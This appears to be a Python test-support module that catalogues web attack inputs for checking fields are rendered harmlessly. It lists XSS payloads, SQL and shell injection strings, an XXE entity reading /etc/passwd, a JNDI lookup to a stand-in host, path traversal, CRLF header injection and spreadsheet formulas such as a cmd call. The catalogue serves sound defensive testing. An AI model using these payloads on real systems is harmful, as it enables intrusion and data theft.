"""What attackers write into fields, by its class: each text is harmless where it stays the text that it is.

The classes are those of the lists that are used against web sites (OWASP's cheat sheets on cross-site scripting, its
prevention and evasion, and on CSV injection; html5sec; Unicode's reports 36 and 39).
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping

from .watching import MARKER

M = MARKER
RUNNING: Mapping[str, tuple[str, ...]] = {
    "script": (
        f"<script>{M}='script'</script>",
        f"</script><script>alert({M}='second script')</script>",
        f"<iframe srcdoc='<script>top.{M}=1</script>'></iframe>",
        f"<ScRiPt/x>{M}='case'</sCrIpT >",
        f"</title></style></textarea></noscript></template><script>{M}='closing'</script>",
        f"--><script>{M}='comment'</script><!--",
        f"]]><script>{M}='cdata'</script>",
        f"<script src=data:,{M}=1></script>",
    ),
    "handlers": (
        f"\"><img src=x onerror={M}='image'>",
        f"' autofocus tabindex=0 onfocus={M}='focus' x='",
        f"</title></style></textarea><body onload={M}='body'>",
        f"<details open ontoggle={M}='toggle'>x</details>",
        f"<input autofocus onfocus={M}='input'>",
        f"<video><source onerror={M}='source'></video>",
        f"<img/src=\"x\"onerror\n=\n{M}='spaces'>",
        "<IMG SRC=x oNeRrOr=&#122;bHostile=1>",
        f"<audio src=x onerror={M}='audio'></audio>",
        f"<object data=x onerror={M}='object'></object>",
    ),
    "svg": (
        f"<svg onload={M}='svg'></svg>",
        f"<svg><script>{M}='script in svg'</script></svg>",
        f"<svg><script>{M}&#61;'reference in svg'</script></svg>",
        f"<svg><animate onbegin={M}='animate' attributeName=x dur=1s></svg>",
        f"<svg><set onbegin={M}='set' attributeName=x dur=1s></svg>",
        f"<svg><foreignObject><img src=x onerror={M}='foreign'></foreignObject></svg>",
    ),
    "mutation": (
        f"<noscript><p title=\"</noscript><img src=x onerror={M}='noscript'>\">",
        f"<svg></p><style><a id=\"</style><img src=x onerror={M}='style'>\">",
        f"<table><td><svg><desc><td></desc><img src=x onerror={M}='desc'>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={M}='form'>",
    ),
}
"""What runs where it is written into a page as it is."""

INERT: Mapping[str, tuple[str, ...]] = {
    "markup": (
        '</p></td></table></div></article> <!-- --> <b>x</b> href="record:challenge/nowhere"',
        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={M}='glyph'&gt;\">",
        'href="site:../../x" href="record:programme/x"',
        "<meta http-equiv=refresh content=0;url=//elsewhere.example/><base href=//elsewhere.example/>",
        "<form action=//elsewhere.example/><button>x</button></form><link rel=stylesheet href=//elsewhere.example/>",
        "<!--[if IE]><script></script><![endif]--> <![CDATA[ <?xml version='1.0'?> <?php x ?>",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> &e; %e;',
        "<style>@import'//elsewhere.example/x'; body{background:url(//elsewhere.example/x)}</style> expression(1)",
    ),
    "addresses": (
        f"**x** [x](javascript:{M}=1) ![x](x.png) `x` # x | x | <javascript:x>",
        f"javascript:{M}=1 JaVaScRiPt:{M}=1 java\tscript:{M}=1 data:text/html,x vbscript:x //elsewhere.example/",
        "<a href=javascript:x>x</a> https://www.example.org@elsewhere.example/ https:\\\\elsewhere.example",
    ),
    "encodings": (
        "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp; &notin; &lt &#x3C &#0000060script",
        f"+ADw-script+AD4-{M}=1+ADw-/script+AD4- +ADwAcwBjAHIAaQBwAHQAPg-",
        "%3Cscript%3E %253Cscript%253E %u003cscript%u003e %C0%BCscript%C0%BE %00 %0d%0aX: y",
        "\\u003cscript\\u003e \\x3cscript\\x3e \\74 \\074script \\\\ \\' \\\" \\n \\0 \\/",
        "\uff1cscript\uff1e \u2039script\u203a \ufe64script\ufe65 \u0130 \u017f \u212a \ufb03",
        "0xC0 \u00c0\u00bc\u00c0\u00be \u00e2\u20ac\u2122 \ufffd e\u0301\u0301\u0301\u0301 Z\u0351\u036b\u0343",
    ),
    "templates": (
        "{{7*7}} {% raw %} {# x #} {n} {0} %s ${7*7} [[zb:content]] [[zb:csp]] [[zb:language]] [[zb:frame]]",
        "{title} {value} {n} {{ title }} {{ publisher }}",
        "<%= 7*7 %> #{7*7} *{7*7} @(7*7) ${{7*7}} {{constructor.constructor('x')()}} $$ $& $1 $` $'",
        '#eval(1) #read("/etc/passwd") \\input{x} $x^2$ @@site_name@@ !ENV [HOME] __proto__ constructor',
    ),
    "bidi": (
        "\u202eover\u202c \u2066isolate\u2069 \u200f\u061cx",
        "\u202dx\u202c \u202ax\u202b\u2067\u2068 \u202e\u2066",
    ),
    "invisible": (
        "zero\u200bwidth\u200djoiner \u2028line \u2029end",
        "\ufeff\u2060\u00ad\u034f\u180e\u3164\u2800\u115f \ufe0f\ufe0f \u206a \ufff9x\ufffb \u0085",
    ),
    "homoglyphs": (
        "p\u0430ypal \u0391\u0392C \u2f08 https://www.g\u043ev.cn/",
        "\u0420\u0410 \u0405\u0455\u0458 \uf90a \u0131 \u0406",
    ),
    "lines": (
        "x\r\nSet-Cookie: x=1\r\n\r\nx\ny\rz",
        "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:x\r\nATTACH:file:///etc/passwd\r\n",
        '"\r\n"x","y";z\tw\r\n\'',
        "\n::error file=x,line=1::x\n::stop-commands::x\n##[error]x\n::set-output name=x::y",
        "\n---\n- &a x\n- *a\n!!python/object/apply:os.system [id]\n%YAML 1.1\n? x : y #z\n...",
    ),
    "commands": (
        "$(touch x) `touch x` ; touch x | touch x && touch x > x \" ' \\",
        "'; DROP TABLE records; -- \" OR 1=1 /* x */ UNION SELECT NULL",
        '"}]}; {"__proto__": {"x": 1}} // /* */ <!-- -->',
        "${jndi:ldap://elsewhere.example/x} *)(uid=*))(|(uid=* (a+)+$ ^(([a-z])+.)+[A-Z]",
    ),
    "paths": (
        "../../../../etc/passwd ..\\..\\windows\\win.ini ....//....//x /etc/passwd C:\\x file:///etc/passwd",
        "%2e%2e%2fx ..%c0%afx ..%252fx ~/x $HOME CON NUL.txt x/../../y .htaccess",
    ),
    "lengths": ("W" * 200, "，" * 40 + "\u0e33" * 4),
}
"""What runs nowhere, and breaks what is careless with it."""

FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\uff1d1", " =1", "'=1", "=cmd|'/C calc'!A0", "")
"""How a text begins that a spreadsheet might work out."""

PAYLOADS: Mapping[str, tuple[str, ...]] = {**RUNNING, **INERT}
EVERY = tuple(payload for payloads in PAYLOADS.values() for payload in payloads)
SCRIPTS = tuple(payload for payloads in RUNNING.values() for payload in payloads)
FIRST = tuple(payload for name, payloads in PAYLOADS.items() for payload in payloads[: 3 if name in RUNNING else 1])
"""Some of each class."""

ALL = " ".join(FIRST)
"""One text with some of every class."""

ROOM = 270
"""How long a text may be that nearly every field takes."""


def packs(payloads: Iterable[str] = EVERY, room: int = ROOM) -> Iterator[tuple[str, ...]]:
    """The payloads in as few groups as fit into fields, each in the order of the list."""
    pack: list[str] = []
    for payload in payloads:
        if pack and len(" ".join((*pack, payload))) > room:
            yield tuple(pack)
            pack = []
        pack.append(payload)
    if pack:
        yield tuple(pack)
